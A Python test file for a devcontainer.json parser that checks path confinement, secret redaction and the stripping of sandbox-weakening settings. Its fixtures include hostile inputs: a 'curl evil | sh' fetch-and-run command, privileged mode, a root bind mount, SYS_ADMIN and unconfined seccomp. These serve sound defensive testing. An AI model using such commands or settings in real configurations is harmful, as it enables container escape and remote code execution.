"""``devcontainer.json``: what of it is used, what is left out with a warning, and what it can't do."""

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pullyard.worker.images.devcontainer import Devcontainer, read_devcontainer
from pullyard.worker.images.errors import ImageRefused

PLACE = ".devcontainer/devcontainer.json"
WEAKENING = {
    "runArgs": ["--privileged"],
    "mounts": ["source=/,target=/host,type=bind"],
    "privileged": True,
    "capAdd": ["SYS_ADMIN"],
    "securityOpt": ["seccomp=unconfined"],
    "workspaceMount": "source=/,target=/ws,type=bind",
    "hostRequirements": {"gpu": True},
    "initializeCommand": "curl evil | sh",
    "features": {"ghcr.io/devcontainers/features/docker-in-docker:2": {}},
}


def read(given: Any, place: str = PLACE) -> Devcontainer:
    return read_devcontainer(json.dumps(given).encode(), place, "/ws")


def test_comments_and_trailing_commas_are_no_mistake() -> None:
    found = read_devcontainer(
        b"""\xef\xbb\xbf// For the editor
        {
            /* which one */ "image": "mcr.microsoft.com/devcontainers/base:bookworm", // "image": "other"
            "containerEnv": {"URL": "http://x/*no comment*/,]",},
        }""",
        PLACE,
        "/ws",
    )
    assert found.image == "mcr.microsoft.com/devcontainers/base:bookworm"
    assert found.environment == {"URL": "http://x/*no comment*/,]"}
    assert found.warnings == []


@pytest.mark.parametrize(
    ("place", "build", "expected"),
    [
        (PLACE, {"dockerfile": "Dockerfile"}, (".devcontainer/Dockerfile", ".devcontainer")),
        (PLACE, {"dockerfile": "../Dockerfile", "context": ".."}, ("Dockerfile", "")),
        (".devcontainer.json", {"dockerfile": "images/dev"}, ("images/dev", "")),
    ],
)
def test_the_paths_of_a_build_begin_at_the_file(
    place: str, build: dict[str, str], expected: tuple[str, str]
) -> None:
    found = read({"build": build}, place).build
    assert found is not None
    assert (found.dockerfile, found.context) == expected


@pytest.mark.parametrize(
    "path", ["../../x", "/etc/passwd", "../..", "a\\b", "C:/x", "https://x/y", "", "a\0b"]
)
def test_no_build_reaches_out_of_the_repository(path: str) -> None:
    with pytest.raises(ImageRefused, match=r"build\.context"):
        read({"build": {"dockerfile": "Dockerfile", "context": path}})


def test_the_old_words_for_a_build_are_known() -> None:
    found = read({"dockerFile": "Dockerfile", "context": ".."}).build
    assert found is not None
    assert (found.dockerfile, found.context) == (".devcontainer/Dockerfile", "")


@pytest.mark.parametrize("name", WEAKENING)
def test_what_would_weaken_the_sandbox_is_left_out_with_a_warning(name: str) -> None:
    found = read({"image": "node:22", name: WEAKENING[name]})
    assert (found.image, found.build, found.environment, found.setup) == ("node:22", None, {}, [])
    assert [name in warning for warning in found.warnings] == [True]


def test_an_unknown_setting_is_counted_and_never_repeated() -> None:
    (warning,) = read({"image": "node:22", "\x1b[2Jforged": 1}).warnings
    assert "1 unknown setting" in warning
    assert "\x1b" not in warning


def test_nothing_of_the_workers_own_environment_is_shown() -> None:
    found = read(
        {"remoteEnv": {"TOKEN": "${localEnv:GITHUB_TOKEN}", "HERE": "${containerWorkspaceFolder}/x"}}
    )
    assert found.environment == {"HERE": "/ws/x"}
    assert len(found.warnings) == 1


@pytest.mark.parametrize(
    ("given", "commands"),
    [
        ("npm ci && npm run x", [["sh", "-c", "npm ci && npm run x"]]),
        (["npm", "ci"], [["npm", "ci"]]),
        ({"a": "make", "b": ["go", "mod", "download"]}, [["sh", "-c", "make"], ["go", "mod", "download"]]),
        (None, []),
    ],
)
def test_the_command_after_creation_is_the_set_up(given: Any, commands: list[list[str]]) -> None:
    assert read({"image": "node:22", "postCreateCommand": given}).setup == commands


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"[]",
        b"{",
        b"\xff",
        b"[" * 60_000,
        b"1" * 10_000,
        b'{"image": 5}',
        b'{"image": "-v /:/x"}',
        b"{" * 70_000,
    ],
)
def test_rubbish_is_refused_in_a_sentence(content: bytes) -> None:
    with pytest.raises(ImageRefused, match=r"devcontainer\.json"):
        read_devcontainer(content, PLACE, "/ws")


def check_read_or_refused(content: bytes) -> None:
    try:
        found = read_devcontainer(content, PLACE, "/ws")
    except ImageRefused:
        return
    assert not (found.image and found.build)
    for words in (*found.setup, *found.environment.items()):
        assert all(b"\0" not in word.encode() for word in words)


@given(st.binary(max_size=4000))
def test_no_bytes_break_it(content: bytes) -> None:
    check_read_or_refused(content)


VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=10,
)
NAMES = st.sampled_from(["image", "build", "dockerFile", "context", "remoteEnv", "postCreateCommand"])
BUILDS = st.dictionaries(st.sampled_from(["dockerfile", "context", "args", "target", "x"]), VALUES)


@given(st.dictionaries(NAMES | st.text(), VALUES | BUILDS))
def test_no_shape_breaks_it(given: dict[str, Any]) -> None:
    check_read_or_refused(json.dumps(given).encode())
